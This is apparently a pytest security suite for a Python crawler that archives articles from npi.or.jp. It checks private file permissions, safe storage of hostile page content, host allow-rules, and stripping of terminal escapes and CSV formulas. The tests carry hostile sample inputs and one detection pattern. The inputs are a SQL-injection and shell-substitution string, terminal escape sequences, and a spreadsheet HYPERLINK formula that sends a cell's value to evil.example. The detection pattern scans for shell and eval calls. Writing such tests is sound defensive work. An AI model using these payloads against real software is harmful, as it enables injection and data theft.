"""Security checks that can be tests (the review itself is docs/security.md)."""

from __future__ import annotations

import datetime as dt
import os
import re
import stat
from pathlib import Path

import pytest

from npi_crawler.archive import Archive
from npi_crawler.archive.records import ArticleRecord
from npi_crawler.fetch import retry_after_seconds
from npi_crawler.site.text import normalize_space
from npi_crawler.site.urls import host_allowed

PACKAGE = Path(__file__).resolve().parent.parent / "npi_crawler"


def test_archive_and_its_wal_and_shm_files_are_private_even_with_a_lax_umask(tmp_path):
    old = os.umask(0o022)
    try:
        archive = Archive.open(tmp_path / "npi.db")
        archive.start_run(mode="incremental", base_url="", langs=(), sections=())
        files = sorted(tmp_path.iterdir())
        assert [f.name for f in files] == ["npi.db", "npi.db-shm", "npi.db-wal"]
        for file in files:
            assert stat.S_IMODE(file.stat().st_mode) == 0o600, file.name
        archive.close()
    finally:
        os.umask(old)


HOSTILE = "'); DROP TABLE articles; -- $(touch /tmp/pwned) `id` \" OR 1=1 \x00? :name"


def test_page_content_is_stored_as_data_never_run(tmp_path):
    archive = Archive.open(tmp_path / "npi.db")
    article = ArticleRecord(
        url="https://npi.or.jp/research/2025/01/01000000.html?x='1'",
        lang="ja",
        title=HOSTILE,
        published="2025-01-01",
        body=HOSTILE * 3,
        authors=[(HOSTILE, None)],
        pdfs=["https://npi.or.jp/a.pdf';--"],
        etag=HOSTILE,
        last_modified=None,
        notes=[],
    )
    assert archive.store_article(article, run_id=None).status == "new"
    archive.add_listing(article.url, "policy", run_id=None)
    archive.record_error(None, article.url, "article:x", HOSTILE)
    [row] = list(archive.iter_articles())
    # The record folds the title's and names' whitespace and drops control characters; the rest as given.
    clean = normalize_space(HOSTILE)
    assert (row["title"], row["body"], row["authors"]) == (clean, HOSTILE * 3, [clean])
    assert archive.db["articles"].count == 1
    assert not Path("/tmp/pwned").exists()
    archive.close()


def test_the_package_runs_no_shell_and_evaluates_nothing():
    pattern = re.compile(r"\b(subprocess|os\.system|os\.popen|shell\s*=\s*True|eval\(|exec\(|pickle)")
    hits = [
        f"{path.name}:{n}: {line.strip()}"
        for path in PACKAGE.rglob("*.py")
        for n, line in enumerate(path.read_text().splitlines(), 1)
        if pattern.search(line)
    ]
    assert hits == []


@pytest.mark.parametrize(
    "host,allowed",
    [
        ("npi.or.jp", True),
        ("www.npi.or.jp", True),
        ("NPI.OR.JP", True),
        ("evil.example", False),
        ("npi.or.jp.evil.example", False),
        ("evilnpi.or.jp", False),
        ("", False),
        (None, False),
    ],
)
def test_offsite_rule_matches_hosts_and_their_subdomains_only(host, allowed):
    url = f"https://{host}/research/x.html" if host is not None else "/research/x.html"
    assert host_allowed(url, ["npi.or.jp", "www.npi.or.jp"]) is allowed


@pytest.mark.parametrize(
    "value,seconds",
    [
        ("120", 120.0),
        (" 5 ", 5.0),
        ("Wed, 25 Nov 2026 00:02:00 GMT", 120.0),
        ("Wed, 25 Nov 2026 00:00:00 GMT", 0.0),  # in the past: no wait
        ("soon", None),
        ("", None),
        (None, None),
    ],
)
def test_retry_after_is_read_as_seconds_or_an_http_date(value, seconds):
    now = dt.datetime(2026, 11, 25, 0, 0, 0, tzinfo=dt.timezone.utc)
    assert retry_after_seconds(value, now=now) == seconds


@pytest.mark.parametrize(
    "url,expected",
    [
        ("https://www.npi.or.jp/research/a.html#x", "http://127.0.0.1:8080/research/a.html"),
        ("http://[::1]:9000/a.html", "http://[::1]:9000/a.html"),  # another host, brackets kept
        ("http://npi.or.jp:99999/a.html", "http://npi.or.jp:99999/a.html"),  # unreadable: as given
        ("http://[npi.or.jp/a.html", "http://[npi.or.jp/a.html"),
        ("http://127.0.0.1:8080@evil.example/a.html", "http://evil.example/a.html"),  # the real host
    ],
)
def test_spider_site_url_never_raises_and_moves_only_npi_links_to_the_base_host(url, expected):
    from npi_crawler.spiders.npi import NpiSpider

    spider = NpiSpider(base_url="http://127.0.0.1:8080/")
    assert spider.site_url(url) == expected


# -- one gate per medium: the terminal, a spreadsheet, XML (issue 23: 7, 9, 15) -----------------------

ESCAPES = "\x1b]0;owned\x07 \x1b[2J\x9b31m"  # retitle the window, clear the screen, an 8-bit CSI
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A replica whose pages and PDFs carry terminal escapes, a formula and XML-invalid
    characters, crawled over HTTP as a user would."""
    from tests.conftest import run_cli
    from tests.site import ReplicaServer, generate_site

    site = generate_site(seed=1)
    article = next(a for a in site.live() if a.lang == "ja" and "policy" in a.sections and a.pdf_texts)
    article.title = f"{FORMULA} {ESCAPES} 半導体 \ufffe\uffff"
    article.blocks[0] = ("p", f"{ESCAPES}本文 半導体")
    pdf = next(iter(article.pdf_texts))
    article.pdf_texts[pdf] = f"{ESCAPES} hostilepdf 半導体"
    folder = tmp_path_factory.mktemp("hostile")
    db = str(folder / "npi.db")
    with ReplicaServer(site) as replica:
        assert run_cli("crawl", "--db", db, "--base-url", replica.url).returncode == 0
        url = replica.url.rstrip("/") + article.path
    rules = folder / "rules.toml"
    rules.write_text('[[rule]]\nname = "chips"\nany = ["hostilepdf", "本文"]\n', encoding="utf-8")
    return {"db": db, "url": url, "rules": str(rules)}


def test_no_command_writes_a_control_character_to_the_terminal(hostile):
    from tests.conftest import run_cli

    db = ["--db", hostile["db"]]
    commands = [
        ["search", "hostilepdf", *db],
        ["search", "本文", *db, "--format", "csv"],
        ["search", "半導体", *db, "--format", "json"],
        ["search", "--fts", "hostilepdf OR 本文", *db],
        ["rules", "check", hostile["rules"], *db],
        ["snapshot", hostile["url"], "--format", "text", *db],
        ["history", hostile["url"], *db],
        ["status", *db],
        ["export", "--format", "csv", *db],
    ]
    for args in commands:
        for columns in ("", "80"):  # a pipe, and a terminal 80 columns wide
            result = run_cli(*args, env={"COLUMNS": columns})
            assert result.returncode == 0, (args, result.stderr)
            assert "owned" in result.stdout or "本文" in result.stdout or args[0] == "status", args
            assert not CONTROL.search(result.stdout + result.stderr), (args, CONTROL.findall(result.stdout))


def test_csv_cells_never_start_a_formula(hostile):
    import csv
    import io

    from npi_crawler.cli.research import spreadsheet_safe
    from tests.conftest import run_cli

    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe("半導体 = chips") == "半導体 = chips" and spreadsheet_safe(-1.5) == -1.5
    for args in (["export", "--format", "csv"], ["search", "本文", "--format", "csv"]):
        result = run_cli(*args, "--db", hostile["db"])
        titles = [row["title"] for row in csv.DictReader(io.StringIO(result.stdout))]
        assert any(t.startswith("'" + FORMULA) for t in titles), args
        assert not any(t.startswith(("=", "+", "-", "@")) for t in titles)


def test_the_atom_feed_holds_no_xml_invalid_character(hostile):
    import feedparser
    from lxml import etree

    from tests.conftest import run_cli

    result = run_cli("feed", "--section", "policy", "--db", hostile["db"])
    assert result.returncode == 0 and "Traceback" not in result.stderr
    etree.fromstring(result.stdout.encode("utf-8"))  # well-formed XML
    titles = [e.title for e in feedparser.parse(result.stdout).entries]
    assert any(t.startswith(FORMULA) and t.endswith("半導体") for t in titles)
